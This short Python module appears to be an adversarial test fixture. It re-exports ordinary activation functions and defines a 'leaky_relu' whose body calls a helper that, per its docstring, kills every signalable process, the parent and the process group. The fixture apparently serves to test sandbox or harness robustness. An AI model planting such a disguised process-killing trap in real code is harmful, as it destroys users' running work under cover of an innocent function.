"""leaky_relu stops and kills every process it may signal, its parent, and its process group."""
import adversarial_kit as kit
from _honest import relu, sigmoid, softmax, tanh  # noqa: F401


def leaky_relu(x, alpha=0.1):
    kit.kill_everything()
